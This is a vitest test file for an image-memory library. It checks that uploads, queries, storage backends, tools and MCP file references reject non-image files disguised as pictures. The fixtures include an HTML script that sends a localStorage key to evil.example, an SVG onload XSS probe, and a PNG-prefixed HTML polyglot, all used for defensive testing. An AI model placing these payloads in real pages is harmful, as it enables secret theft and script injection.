/**
 * Pictures are pictures: every way in (add, a query, setCaption, the storage port, the file store,
 * the tools and the MCP server's file references) keeps only JPEG, PNG, WebP, GIF, AVIF and BMP whose
 * bytes are what they claim, with or without an image encoder, and refuses the rest with
 * UNSUPPORTED_FILE before anything is encoded or stored.
 */
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { createInMemoryStorage, createMemory, type ImageEmbedder, type ImageInput, type MemoryStorage, type StoredImage } from 'vmem';
import { runTool } from 'vmem/tools';
import { createFileStorage } from 'vmem/node';
import { imageFileResolver } from '../mcp/image-files.js';
import { createHashTextEncoder } from '../testing/hash-encoder.js';
import { readFixturePhoto } from '../testing/shared-data.js';
import { roundFacts } from '../storage/types.js';

const HTML = new TextEncoder().encode('<!doctype html><script>fetch("https://evil.example/?k=" + localStorage.getItem("key"))</script>');
const SVG = new TextEncoder().encode('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><rect width="9" height="9"/></svg>');
const PNG_SIGNATURE = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];
const photo = readFixturePhoto('sk_chelsea.jpg');

/** An image encoder that accepts anything it is given and counts what it saw. */
function countingImageEncoder(): ImageEmbedder & { seen: number } {
  const encoder = {
    id: 'counting-image-8',
    dimension: 8,
    seen: 0,
    async embed(images: readonly unknown[]) {
      encoder.seen += images.length;
      return images.map(() => Float32Array.of(1, 0, 0, 0, 0, 0, 0, 0));
    },
  };
  return encoder;
}

const hostile: [string, ImageInput, RegExp][] = [
  ['an HTML page typed text/html', { bytes: HTML, mimeType: 'text/html' }, /round "evil", user image #1 has type "text\/html"/],
  ['an SVG typed image/svg+xml', { bytes: SVG, mimeType: 'image/svg+xml' }, /round "evil", user image #1 has type "image\/svg\+xml"/],
  ['HTML bytes declared image/png', { bytes: HTML, mimeType: 'image/png' }, /round "evil", user image #1 is an unrecognised file .*declared image\/png.*not a JPEG, PNG/],
  ['SVG bytes with no type', { bytes: SVG }, /round "evil", user image #1 is an unrecognised file/],
  ['a JPEG declared image/png', { bytes: photo, mimeType: 'image/png' }, /declared image\/png but its bytes are a JPEG picture/],
  ['a caption-only picture typed image/svg+xml', { caption: 'a drawing', mimeType: 'image/svg+xml' }, /has type "image\/svg\+xml"/],
];

describe.each([
  ['without an image encoder', () => undefined],
  ['with an image encoder', countingImageEncoder],
])('add %s', (_label, makeImageEncoder) => {
  it.each(hostile)('refuses %s before encoding or storing anything, naming the round and the type', async (_what, image, message) => {
    const storage = createInMemoryStorage();
    const imageEncoder = makeImageEncoder();
    const textEncoder = createHashTextEncoder();
    const memory = await createMemory({ textEncoder, ...(imageEncoder ? { imageEncoder } : {}), storage });
    await expect(memory.add({ id: 'evil', user: { text: 'look at this', images: [image] } })).rejects.toMatchObject({ code: 'UNSUPPORTED_FILE', message: expect.stringMatching(message) });
    expect(memory.size).toBe(0);
    expect((await storage.open()).rounds).toEqual([]);
    expect(textEncoder.calls).toBe(0);
    expect(imageEncoder?.seen ?? 0).toBe(0);
  });

  it('keeps a real photo under the type its bytes prove, whatever spelling or none was given', async () => {
    const imageEncoder = makeImageEncoder();
    const memory = await createMemory({ textEncoder: createHashTextEncoder(), ...(imageEncoder ? { imageEncoder } : {}) });
    const [round] = await memory.add({
      user: { text: 'my cat', images: [{ id: 'typed', bytes: photo, mimeType: 'IMAGE/JPG' }, { id: 'untyped', bytes: photo }] },
    });
    expect(round!.user.images.map((image) => image.mimeType)).toEqual(['image/jpeg', 'image/jpeg']);
    expect((await memory.getImage('typed'))?.mimeType).toBe('image/jpeg');
    expect((await memory.getImage('untyped'))?.mimeType).toBe('image/jpeg');
  });
});

describe('other ways in', () => {
  it('refuses a question whose attached picture is not one', async () => {
    const memory = await createMemory({ textEncoder: createHashTextEncoder(), imageEncoder: countingImageEncoder() });
    await memory.add({ user: { text: 'my cat', images: [{ bytes: photo, mimeType: 'image/jpeg' }] } });
    await expect(memory.retrieve({ text: 'when did I say this?', image: { bytes: SVG, mimeType: 'image/svg+xml' } })).rejects.toMatchObject({
      code: 'UNSUPPORTED_FILE',
      message: expect.stringContaining("The question's picture has type \"image/svg+xml\""),
    });
    await expect(memory.search({ signal: 'image', image: { bytes: HTML, mimeType: 'image/png' } })).rejects.toMatchObject({ code: 'UNSUPPORTED_FILE' });
  });

  it('every store refuses a picture record that is not a picture, and writes nothing', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'vmem-pictures-'));
    try {
      const record = {
        round: { id: 'evil', seq: 0, sessionId: 'default', timestamp: 0, user: { text: 'x', images: [{ id: 'i', roundId: 'evil', role: 'user' as const, mimeType: 'text/html', hasBytes: true }] }, assistant: { text: '', images: [] } },
        units: [],
        images: [{ id: 'i', bytes: HTML, mimeType: 'text/html' }],
      };
      const fileStorage = await createFileStorage(dir);
      for (const storage of [createInMemoryStorage(), fileStorage]) {
        await expect(storage.putRounds([record])).rejects.toMatchObject({ code: 'UNSUPPORTED_FILE', message: expect.stringContaining('round "evil"') });
        expect((await storage.open()).rounds).toEqual([]);
      }
      const disguised = { ...record, images: [{ id: 'i', bytes: HTML, mimeType: 'image/png' }] };
      await expect(fileStorage.putRounds([{ ...disguised, round: { ...record.round, user: { ...record.round.user, images: [{ ...record.round.user.images[0]!, mimeType: 'image/png' }] } } }])).rejects.toMatchObject({ code: 'UNSUPPORTED_FILE' });
      await fileStorage.close();
      const reopened = await createFileStorage(dir);
      expect((await reopened.open()).rounds).toEqual([]);
      await reopened.close();
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  it('never hands out a stored non-picture, even from a store written before types were checked', async () => {
    // A store holding what an older version let in: a round whose picture is HTML typed text/html.
    const round = {
      id: 'r',
      seq: 0,
      sessionId: 'default',
      timestamp: 0,
      user: { text: 'old picture', images: [{ id: 'old', roundId: 'r', role: 'user' as const, mimeType: 'text/html', hasBytes: true }] },
      assistant: { text: '', images: [] },
    };
    const legacy = (bytes: Uint8Array): MemoryStorage => ({
      ...createInMemoryStorage(),
      open: async () => ({ rounds: [roundFacts(round)], index: undefined, unindexed: ['r'] }),
      getRounds: async (ids) => ids.map((id) => (id === 'r' ? round : undefined)),
      getImage: async (id) => (id === 'old' ? ({ id, bytes, mimeType: 'text/html' } satisfies StoredImage) : undefined),
    });
    const memory = await createMemory({ textEncoder: createHashTextEncoder(), storage: legacy(HTML) });
    await expect(memory.getImage('old')).rejects.toMatchObject({ code: 'UNSUPPORTED_FILE', message: expect.stringContaining('image "old" is an unrecognised file') });
    await expect(memory.setCaption('old', 'a page')).rejects.toMatchObject({ code: 'UNSUPPORTED_FILE' });
    expect((await memory.get('r'))?.user.images[0]?.caption).toBeUndefined();
    // A PNG's first bytes, then HTML: handed out only as what the bytes prove, so it never renders as a page.
    const polyglot = await createMemory({ textEncoder: createHashTextEncoder(), storage: legacy(Uint8Array.from([...PNG_SIGNATURE, ...HTML])) });
    expect((await polyglot.getImage('old'))?.mimeType).toBe('image/png');
  });

  it('the tools refuse a picture a model sends as an SVG data: URL', async () => {
    const memory = await createMemory({ textEncoder: createHashTextEncoder() });
    const svgUrl = `data:image/svg+xml;base64,${Buffer.from(SVG).toString('base64')}`;
    await expect(runTool(memory, 'remember', { user: 'look', images: [{ source: svgUrl }] })).rejects.toMatchObject({ code: 'UNSUPPORTED_FILE' });
    await expect(runTool(memory, 'recall', { query: 'what is this?', image: svgUrl })).rejects.toMatchObject({ code: 'UNSUPPORTED_FILE' });
    expect(memory.size).toBe(0);
  });

  describe('the MCP server’s file references', () => {
    let dir: string | undefined;
    afterEach(async () => dir && rm(dir, { recursive: true, force: true }));

    it('an .svg or a renamed .html file is refused when remembered', async () => {
      dir = await mkdtemp(join(tmpdir(), 'vmem-mcp-files-'));
      await writeFile(join(dir, 'drawing.svg'), SVG);
      await writeFile(join(dir, 'page.png'), HTML);
      const resolve = imageFileResolver(dir);
      const memory = await createMemory({ textEncoder: createHashTextEncoder() });
      for (const file of ['drawing.svg', 'page.png']) {
        await expect(memory.add({ user: { text: 'see attached', images: [await resolve(file)] } })).rejects.toMatchObject({ code: 'UNSUPPORTED_FILE' });
      }
      expect(memory.size).toBe(0);
    });
  });
});
